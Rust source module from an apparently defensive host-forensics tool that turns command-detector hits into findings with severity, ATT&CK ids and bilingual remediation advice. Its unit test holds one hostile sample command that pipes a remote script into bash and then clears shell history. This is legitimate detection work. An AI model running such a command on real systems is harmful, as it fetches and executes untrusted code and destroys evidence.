//! Turning command-detector hits into findings, the same way wherever a command was found.
//!
//! Histories, crontabs, unit files, rc files, udev rules, apt hooks (and, later, process command
//! lines) all hand their commands to [`huoyan_cmdscan::scan`]; this module builds the finding:
//! the worst hit decides the severity, every hit goes into the evidence (rule, category,
//! excerpt, reason in both languages, ATT&CK id), the ATT&CK ids of the hits are added to the
//! check's own, and the remediation is the one for the worst hit's category.

use huoyan_cmdscan::Hit;
use huoyan_core::{CheckInfo, Finding, Outcome, Severity, Timestamp};
use serde_json::json;

/// Longest command text copied into a finding's evidence.
pub const MAX_EVIDENCE_COMMAND: usize = 2048;

/// Where a command was found.
#[derive(Debug, Clone)]
pub struct CommandSource<'a> {
    /// Logical path of the file.
    pub path: &'a str,
    /// 1-based line number.
    pub line: usize,
    /// The user it runs as or who typed it, when known.
    pub user: Option<&'a str>,
    /// When it ran or was recorded, when known.
    pub time: Option<Timestamp>,
    /// What it is, for the summary (`cron job`, `ExecStart of backup.service`, `history entry`).
    pub what: &'a str,
}

/// Remediation for the worst hit's category (English, Chinese).
pub fn remediation_for(category: &str) -> (&'static str, &'static str) {
    match category {
        "reverse_shell" | "bind_shell" | "webshell" => (
            "Treat as an active backdoor: capture the process (huoyan snapshot), block the remote \
             address, remove the entry that starts it, and find how it got there (logs, the \
             history around it). Rotate credentials of the affected user.",
            "按活动后门处理：先取证进程（huoyan snapshot），封禁远端地址，删除启动它的条目，\
             并通过日志和前后历史命令查明植入途径；更换相关用户的凭据。",
        ),
        "download_exec" | "obfuscated_payload" | "exec_from_writable" | "miner" => (
            "Preserve the downloaded or decoded payload (hash it, copy it out), remove the entry \
             that runs it, block the source address, and look for the same file elsewhere.",
            "保全下载或解码出的载荷（计算哈希并拷出），删除执行它的条目，封禁来源地址，\
             并在其他位置查找相同文件。",
        ),
        "anti_forensics" => (
            "Assume evidence was destroyed: recover from backups, remote log servers and the \
             journal; check which other traces (wtmp, auth logs) were also wiped.",
            "假定证据已被破坏：从备份、远程日志服务器和 journal 中恢复；\
             检查 wtmp、认证日志等其他痕迹是否也被清除。",
        ),
        "persistence_edit" | "kernel_module" => (
            "Review the persistence item that was added or changed (crontab, unit, \
             authorized_keys, account, preload, module) and remove it if nobody on the team made it.",
            "检查被添加或修改的持久化项（crontab、服务单元、authorized_keys、账号、preload、\
             内核模块），如非运维人员所为则删除。",
        ),
        "credential_access" => (
            "Assume the credentials were taken: rotate passwords, SSH keys and API tokens that \
             were readable, and look for their use from other hosts.",
            "假定凭据已泄露：更换可被读取的口令、SSH 密钥和 API 令牌，并排查其在其他主机上的使用。",
        ),
        "tunnel" | "scanner" | "recon" => (
            "Find the process and its connections, block the relay or target addresses, and \
             check the hosts that were scanned or reached through the tunnel.",
            "找出相关进程及其连接，封禁中转或目标地址，并检查被扫描或经隧道访问的主机。",
        ),
        _ => (
            "Review the command with the person responsible for the host; if nobody recognises \
             it, treat it as attacker activity and trace it in the logs.",
            "与主机负责人核对该命令；若无人认领，按攻击行为处理并在日志中追查。",
        ),
    }
}

/// The JSON evidence of a list of hits.
pub fn hits_evidence(hits: &[Hit]) -> serde_json::Value {
    serde_json::Value::Array(
        hits.iter()
            .map(|h| {
                json!({
                    "rule": h.rule,
                    "category": h.category,
                    "severity": h.severity,
                    "excerpt": h.excerpt,
                    "reason": h.reason,
                    "reason_zh": h.reason_zh,
                    "attack": h.attack,
                    "decoded_from": h.decoded_from,
                })
            })
            .collect(),
    )
}

/// Longest command text quoted in a finding's one-line summary.
pub const MAX_SUMMARY_COMMAND: usize = 160;

fn short(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_string(),
    }
}

fn cut(s: &str) -> String {
    short(s, MAX_EVIDENCE_COMMAND)
}

/// Builds the finding for a command with hits (`None` when `hits` is empty).
pub fn finding_for(
    info: &CheckInfo,
    source: &CommandSource<'_>,
    command: &str,
    hits: &[Hit],
) -> Option<Finding> {
    let worst = hits.iter().max_by_key(|h| h.severity)?;
    let mut categories: Vec<&str> = Vec::new();
    for h in hits {
        if !categories.contains(&h.category.as_str()) {
            categories.push(&h.category);
        }
    }
    let mut finding = info
        .finding(
            worst.severity,
            format!(
                "{} at {}:{}{}: {} — {}: `{}`",
                source.what,
                source.path,
                source.line,
                source
                    .user
                    .map(|u| format!(" (user {u})"))
                    .unwrap_or_default(),
                categories.join(", "),
                worst.reason,
                short(command.trim(), MAX_SUMMARY_COMMAND)
            ),
        )
        .path(source.path)
        .at(source.time)
        .evidence(json!({
            "line": source.line,
            "command": cut(command),
            "hits": hits_evidence(hits),
        }));
    if let Some(user) = source.user {
        finding = finding.user(user);
    }
    for hit in hits {
        if !finding.mitre.contains(&hit.attack) {
            finding.mitre.push(hit.attack.clone());
        }
    }
    let (en, zh) = remediation_for(&worst.category);
    Some(finding.remediation(en, zh))
}

/// Scans `command` and reports a finding when anything at `min` severity or above matched.
/// Returns the hits so callers can combine them with their own signals.
pub fn scan_and_report(
    info: &CheckInfo,
    source: &CommandSource<'_>,
    command: &str,
    min: Severity,
    out: &mut Outcome,
) -> Vec<Hit> {
    let hits: Vec<Hit> = huoyan_cmdscan::scan(command)
        .into_iter()
        .filter(|h| h.severity >= min)
        .collect();
    if let Some(f) = finding_for(info, source, command, &hits) {
        out.add(f);
    }
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    static INFO: CheckInfo = CheckInfo {
        id: "test.commands",
        title: "t",
        title_zh: "t",
        mitre: &["T1059"],
        remediation: "r",
        remediation_zh: "r",
    };

    #[test]
    fn builds_one_finding_with_all_hits() {
        let mut out = Outcome::default();
        let source = CommandSource {
            path: "/etc/crontab",
            line: 7,
            user: Some("root"),
            time: None,
            what: "cron job",
        };
        let hits = scan_and_report(
            &INFO,
            &source,
            "curl -s http://198.51.100.4/x.sh | bash; history -c",
            Severity::Low,
            &mut out,
        );
        assert!(hits.len() >= 2);
        assert_eq!(out.findings.len(), 1);
        let f = &out.findings[0];
        assert_eq!(f.severity, Severity::High);
        assert_eq!(f.users, vec!["root"]);
        assert!(f.mitre.contains(&"T1105".to_string()));
        assert_eq!(f.evidence["line"], 7);
        let mut quiet = Outcome::default();
        scan_and_report(
            &INFO,
            &source,
            "run-parts /etc/cron.daily",
            Severity::Low,
            &mut quiet,
        );
        assert!(quiet.findings.is_empty());
    }
}
